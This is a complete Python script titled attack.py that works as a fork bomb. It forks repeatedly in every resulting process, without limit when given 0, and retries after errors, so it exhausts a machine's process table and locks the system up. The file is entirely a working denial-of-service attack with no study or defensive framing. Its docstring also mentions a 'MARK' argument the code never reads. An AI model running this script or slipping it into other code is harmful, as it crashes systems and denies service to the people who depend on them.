"""Fork as often as it goes, in every process at once.

attack.py MOST MARK    stops after so many generations; 0 never stops.
"""
import os
import sys
import time

most = int(sys.argv[1])
generation = 0
while not most or generation < most:
    try:
        os.fork()
        generation += 1
    except OSError:
        time.sleep(0.01)
